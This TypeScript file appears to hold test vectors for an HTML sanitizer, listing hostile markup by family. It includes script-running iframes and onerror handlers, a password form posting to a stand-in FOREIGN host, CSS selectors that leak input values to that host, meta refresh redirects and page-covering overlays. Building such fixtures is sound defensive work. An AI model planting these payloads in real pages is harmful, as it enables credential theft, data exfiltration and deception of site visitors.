import { family, type Vector } from '../vector.ts';

/** What loads, moves, covers or submits without script. */
export const PAGES: readonly Vector[] = [
  ...family('navigation', [
    ['refresh', '<meta http-equiv="refresh" content="0;url=http://FOREIGN/refresh">'],
    ['refresh in mixed case', '<META HTTP-EQUIV=ReFrEsH CONTENT="0; URL=\'http://FOREIGN/refresh\'">'],
    ['refresh without a word', '<meta http-equiv="refresh" content="0 http://FOREIGN/refresh">'],
    [
      'cookie',
      '<meta http-equiv="Set-Cookie" content="tagline_1=stolen"><meta http-equiv=x-ua-compatible content=IE=7>',
    ],
    [
      'policy of its own',
      '<meta http-equiv="Content-Security-Policy" content="script-src * \'unsafe-inline\'">',
    ],
    [
      'policy that forbids',
      '<meta http-equiv="Content-Security-Policy" content="style-src \'none\'; img-src \'none\'">',
    ],
    [
      'referrer of its own',
      '<meta name=referrer content=unsafe-url><a referrerpolicy=unsafe-url href="#x">press</a>',
    ],
    [
      'charset of its own',
      '<meta charset="utf-7"><meta http-equiv=content-type content="text/html;charset=iso-2022-kr">',
    ],
    ['base', '<base href="http://FOREIGN/"><a href="a">press</a>'],
    ['base with a target', '<base target="_top"><a href="#x">press</a>'],
    [
      'transition between pages',
      '<meta name="view-transition" content="same-origin"><style>@view-transition{navigation:auto}</style>',
    ],
    [
      'theme of its own',
      '<meta name=color-scheme content="only dark"><meta name=viewport content="width=1">',
    ],
  ]),
  ...family('frame', [
    ['frame of another host', '<iframe src="http://FOREIGN/frame"></iframe>'],
    [
      'frame of another host, later',
      '<iframe loading=lazy data-src="//FOREIGN/lazy" src="//FOREIGN/frame"></iframe>',
    ],
    ['frame with a document', '<iframe srcdoc="<script>RUN</script><img src=x: onerror=RUN>"></iframe>'],
    [
      'frame with an escaped document',
      '<iframe srcdoc="&lt;svg onload=RUN&gt;&lt;script&gt;parent.ran=1&lt;/script&gt;"></iframe>',
    ],
    [
      'frame that allows itself',
      '<iframe sandbox="allow-scripts allow-same-origin allow-top-navigation" srcdoc="<script>RUN</script>"></iframe>',
    ],
    [
      'frame with rights',
      '<iframe allow="camera *; microphone *" allowfullscreen credentialless src="//FOREIGN/rights"></iframe>',
    ],
    ['frame of the reader itself', '<iframe src="/"></iframe><iframe src="/article-frame.html"></iframe>'],
    [
      'frame with the name of another',
      '<iframe name="_top" src="about:blank"></iframe><a href="#x" target="_top">press</a>',
    ],
    [
      'frame of a player that is none',
      '<iframe src="https://youtube.com.FOREIGN/embed/abcdefghijk"></iframe>',
    ],
    ['frame that is never closed', '<iframe src="//FOREIGN/frame">', 'hungry'],
    ['fenced frame', '<fencedframe config="x" src="http://FOREIGN/fenced"></fencedframe>'],
    ['portal', '<portal src="http://FOREIGN/portal"></portal>'],
    ['object', '<object data="http://FOREIGN/object"><param name=movie value="//FOREIGN/param"></object>'],
    ['object in an object', '<object data=x:><object data=y:><img src=x: onerror=RUN></object></object>'],
    ['object that is never closed', '<object data="//FOREIGN/object">', 'hungry'],
    ['embed', '<embed src="http://FOREIGN/embed" pluginspage="//FOREIGN/plugin">'],
    ['frameset', '<frameset cols=1,1><frame src="//FOREIGN/a"><frame src="//FOREIGN/b"></frameset>'],
    ['webview', '<webview src="http://FOREIGN/webview" nodeintegration allowpopups></webview>'],
    [
      'browser of an old shell',
      '<browserview src="//FOREIGN/view"></browserview><controlledframe src="//FOREIGN/c">',
    ],
  ]),
  ...family('form', [
    [
      'form of another host',
      '<form action="http://FOREIGN/form"><input name=password type=password><button>Sign in</button></form>',
    ],
    [
      'form that is sent at once',
      '<form action="//FOREIGN/form"><input type=submit autofocus accesskey=j></form>',
    ],
    ['form by a button', '<button form=x formaction="//FOREIGN/form" formtarget=_top>Go</button>'],
    ['form that is a dialog', '<dialog open><form method=dialog><button>Close</button></form></dialog>'],
    [
      'field outside of a form',
      '<input list=l onfocus=RUN autofocus><datalist id=l><option>a</datalist><keygen autofocus>',
    ],
    ['field of a picture', '<input type=image src="http://FOREIGN/input.png">'],
    ['field for a file', '<input type=file webkitdirectory><input type=hidden name=_charset_>'],
    ['area for text', '<textarea autofocus name=t>text</textarea><output name=o>1</output>'],
    ['area for text that is never closed', '<textarea autofocus>', 'hungry'],
    ['choice that is never closed', '<select autofocus><option>a', 'hungry'],
    [
      'a label of something else',
      '<label for=app onclick=RUN>press</label><fieldset disabled form=x>in</fieldset>',
    ],
    ['progress and meter', '<progress value=1></progress><meter value=1></meter>'],
    ['a popover by a button', '<button popovertarget=p>open</button><div id=p popover=manual>over all</div>'],
    [
      'a command to a dialog',
      '<button command=show-modal commandfor=d>open</button><dialog id=d>over all</dialog>',
    ],
    [
      'inert and hidden',
      '<p inert>still</p><p hidden=until-found>found</p><p aria-hidden=true role=alert>heard</p>',
    ],
    ['details of one name', '<details name=x open>one</details><details name=x ontoggle=RUN>two</details>'],
    [
      'a field for searching',
      '<search><input type=search results=5 autosave=x incremental onsearch=RUN></search>',
    ],
  ]),
  ...family('style', [
    ['import', '<style>@import "http://FOREIGN/a.css"; @import url(//FOREIGN/b.css);</style>'],
    ['font', '<style>@font-face{font-family:x;src:url(http://FOREIGN/f.woff2)}*{font-family:x}</style>'],
    [
      'font by its letters',
      '<style>@font-face{font-family:l;src:url(//FOREIGN/a);unicode-range:u+61}p{font-family:l}</style>',
    ],
    [
      'attribute that is told',
      '<style>a[href^="h"]{background:url(//FOREIGN/h)} input[value^=a]{background:url(//FOREIGN/a)}</style>',
    ],
    [
      'attribute by has and not',
      '<style>html:has(p:not([id^=a])){--x:url(//FOREIGN/has);background:var(--x)}</style>',
    ],
    [
      'text that is told by its width',
      '<style>p::first-line{background:url(//FOREIGN/line)} @container (width>1px){p{background:url(//FOREIGN/c)}}</style>',
    ],
    ['everything hidden', '<style>*{display:none!important}</style>'],
    [
      'everything covered',
      '<div style="position:fixed;inset:0;z-index:2147483647;background:#fff">cover</div>',
    ],
    ['a box outside', '<div style="position:absolute;top:-9999px;left:-9999px;margin:-999px">outside</div>'],
    ['a background', '<p style="background:url(http://FOREIGN/bg)">styled</p>'],
    ['a background with escapes', '<p style="background:\\75\\72\\6C(//FOREIGN/bg)">styled</p>'],
    [
      'an image set',
      '<p style="background-image:image-set(\'//FOREIGN/set\' 1x);cursor:url(//FOREIGN/cur),auto">styled</p>',
    ],
    [
      'content and lists',
      '<p style="content:url(//FOREIGN/c);list-style:url(//FOREIGN/l);border-image:url(//FOREIGN/b)">styled</p>',
    ],
    ['an expression', '<p style="width:expression(RUN);xss:expr/**/ession(RUN)">styled</p>'],
    [
      'a behaviour',
      '<p style="behavior:url(//FOREIGN/x.htc);-moz-binding:url(//FOREIGN/x.xml#x)">styled</p>',
    ],
    ['a style that is closed early', '<p style="color:red</style><img src=x: onerror=RUN>">styled</p>'],
    ['a style that is never closed', '<style>*{display:none}', 'hungry'],
    [
      'a scope and a layer',
      '<style>@scope(body){:scope{display:none}}@layer x{*{display:none!important}}</style>',
    ],
    ['a shape of the own page', '<p class="picture app dialog toast" part=x slot=y id=app>as the reader</p>'],
    ['a blinking text', '<blink>x</blink><bgsound src="//FOREIGN/b.wav"><basefont face=x color=white>'],
    [
      'a colour of the page',
      '<body bgcolor=black text=black link=black background="http://FOREIGN/body.png">',
    ],
    [
      'a table with pictures',
      '<table background="//FOREIGN/t"><tr background="//FOREIGN/r"><td background="//FOREIGN/d">cell</table>',
    ],
  ]),
  ...family('loading', [
    [
      'style sheet',
      '<link rel=stylesheet href="http://FOREIGN/sheet.css"><link rel="alternate stylesheet" title=x href=//FOREIGN/alt>',
    ],
    [
      'preload and prefetch',
      '<link rel=preload as=image href="//FOREIGN/pre"><link rel=prefetch href="//FOREIGN/fetch">',
    ],
    [
      'prerender and module',
      '<link rel=prerender href="//FOREIGN/render"><link rel=modulepreload href="//FOREIGN/module.js">',
    ],
    [
      'connection before',
      '<link rel=preconnect href="http://FOREIGN"><link rel=dns-prefetch href="//FOREIGN">',
    ],
    ['import of HTML', '<link rel=import href="//FOREIGN/import.html" onload=RUN>'],
    [
      'icon, manifest and search',
      '<link rel=icon href="//FOREIGN/icon"><link rel=manifest href="//FOREIGN/m"><link rel=search href="//FOREIGN/s">',
    ],
    ['picture for a preload', '<link rel=preload as=image imagesrcset="//FOREIGN/set 1x" imagesizes=1px>'],
    [
      'dictionary',
      '<link rel="compression-dictionary" href="//FOREIGN/dictionary"><link rel=expect href=#x blocking=render>',
    ],
    ['link in a body', '<p><link itemprop=url href="//FOREIGN/item" rel=stylesheet media=all>in</p>'],
    [
      'video with all it has',
      '<video src="//FOREIGN/v.mp4" autoplay muted controls><track src="//FOREIGN/t.vtt" default></video>',
    ],
    ['video that is never closed', '<video src="//FOREIGN/v.mp4" autoplay>', 'hungry'],
    ['audio with all it has', '<audio src="//FOREIGN/a.mp3" autoplay preload=auto loop></audio>'],
    ['canvas and map', '<canvas id=c>in the canvas</canvas><map name=m><area href="javascript:RUN"></map>'],
    ['picture of data', '<img src="data:image/gif;base64,R0lGODlhAQABAAAAACw=" onload=RUN>'],
    [
      'pixel',
      '<img src="http://FOREIGN/pixel-1" width=1 height=1><img src="//FOREIGN/pixel-2" style="width:0;height:0">',
    ],
    [
      'attribution',
      '<img attributionsrc="http://FOREIGN/source" src="data:,"><script attributionsrc="//FOREIGN/a"></script>',
    ],
    [
      'topics and shared storage',
      '<iframe browsingtopics sharedstoragewritable adauctionheaders src="//FOREIGN/topics"></iframe>',
    ],
  ]),
];
